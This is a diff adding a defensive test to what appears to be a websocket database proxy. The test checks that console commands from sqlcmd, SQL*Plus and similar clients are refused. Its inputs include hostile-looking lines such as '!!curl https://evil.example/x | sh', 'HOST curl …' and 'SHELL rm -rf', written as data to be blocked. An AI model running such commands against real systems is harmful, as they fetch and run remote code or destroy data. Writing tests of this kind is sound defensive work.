@@ -1889,6 +1889,41 @@ t.test('sixteenth pass: a mysql client behind websocketd runs its named commands
   t.ok(code !== 1008 && replies === 3, 'status, a read and chat are relayed');
 });
 
+t.test('seventeenth pass: other consoles behind websocketd (sqlcmd, SQL*Plus, SQLcl, snowsql, Firebird isql) run their own commands', async (t) => {
+  // `websocketd sqlcmd` ran `!!curl …` (a shell; at any line start, inside a batch too), `:r
+  // /tmp/x.sql`, `:setvar` (rewriting a later `$(x)`) and `GO 100` (the batch a hundred times);
+  // `websocketd sqlplus` ran `HOST …`, `! …`, `@/tmp/x.sql`, `SPOOL`, `DEFINE x = …` (a later
+  // `&x`), `/` (the buffer again): no SQL word, so each was relayed undecided.
+  const commands = fc.record({
+    line: fc.constantFrom('!!curl https://evil.example/x | sh', ':!! id', ':r /tmp/x.sql', ':connect evil.example', ':setvar x "DROP TABLE users"', ':out /tmp/x', 'GO 100',
+      'HOST curl https://evil.example/x', 'ho id', '! id', '$ dir', '@/tmp/x.sql', '@@x.sql', '@x', 'START /tmp/x.sql', 'SPOOL /tmp/x.txt', 'GET /tmp/x.sql', '/', 'RUN',
+      'SAVE /tmp/x.sql', 'DEFINE x = DROP', 'ACCEPT x', 'COLUMN c NEW_VALUE v', 'CONN sys/x@evil', 'COPY FROM a/b@c TO d/e@f', 'PASSWORD', 'STARTUP', 'RECOVER DATABASE',
+      "SHELL rm -rf /tmp/x;", "INPUT '/tmp/x.sql';", 'SCRIPT /tmp/x.js', 'repeat 100 1', '!system curl https://evil.example/x'),
+    upper: fc.boolean(),
+    blank: fc.constantFrom('', '  ', '\t'),
+    lead: fc.constantFrom('', 'SELECT 1;', 'hello', 'SELECT 1;\n'),
+  });
+  fc.assert(fc.property(commands, ({ line, upper, blank, lead }) => {
+    const reader = new JsonMessagesReader();
+    const text = `${blank}${upper ? line.toUpperCase() : line.toLowerCase()}`;
+    const refused = [...(lead ? [lead] : []), text].map((m) => reader.read(Buffer.from(m), false).refused).find(Boolean);
+    t.match(refused, /console command/, `${JSON.stringify(lead)} then ${JSON.stringify(text)}: refused`);
+  }), { numRuns: Math.min(numRuns * 4, 100), ...seed });
+  // sqlcmd reads `!!` at the start of any line: inside a pending batch and a string too.
+  for (const msgs of [['SELECT 1', '!!id'], ["SELECT 'a", '!!id', "';"], ['DELETE FROM t WHERE id = 1', 'GO 500']]) {
+    const reader = new JsonMessagesReader();
+    t.ok(msgs.map((m) => reader.read(Buffer.from(m), false).refused).some(Boolean), `${JSON.stringify(msgs)}: refused`);
+  }
+  // Controls: chat that shares words with the commands, SQL lines that start with an operator.
+  for (const msgs of [['start the car'], ['get me the weather'], ['save the date'], ['run the tests'], ['password reset please'], ['accept the invite please'], ['define the term'],
+    ['copy this text'], ['go home'], ['START TRANSACTION;'], ['SELECT a', '!= b;'], ['SELECT x', '::int;'], ['/* c */ SELECT 1;']]) {
+    const reader = new JsonMessagesReader();
+    t.notOk(msgs.map((m) => reader.read(Buffer.from(m), false).refused).some(Boolean), `${JSON.stringify(msgs)}: relayed`);
+  }
+  // Through the proxy (the same reader): a shell command closes the tunnel.
+  t.equal((await wsExchange(`ws://sql.example:${rich.port}/console`, [], ['SELECT 1', '!!curl https://evil.example/x | sh'])).code, 1008, 'sqlcmd !! closed');
+});
+
 t.test('sixteenth pass: MySQL\'s client protocol through a bridge is read packet by packet, each statement judged', async (t) => {
   // A MySQL client (websockify before port 3306) ran `DROP TABLE users` undecided: its COM_QUERY
   // packet was read as text, a NUL in it made it no SQL. The handshake is MariaDB 10.11's client's.
